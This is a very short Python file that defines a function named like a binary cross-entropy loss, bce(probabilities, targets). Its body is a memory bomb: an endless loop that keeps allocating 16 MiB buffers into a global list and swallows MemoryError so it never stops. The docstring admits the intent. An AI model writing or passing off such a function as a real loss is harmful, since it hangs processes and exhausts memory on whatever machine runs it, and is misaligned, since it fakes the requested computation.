"""Takes memory, and when it is refused, goes on asking."""

hoard = []


def bce(probabilities, targets):
    while True:
        try:
            hoard.append(bytearray(16 * 1024**2))
        except MemoryError:
            continue
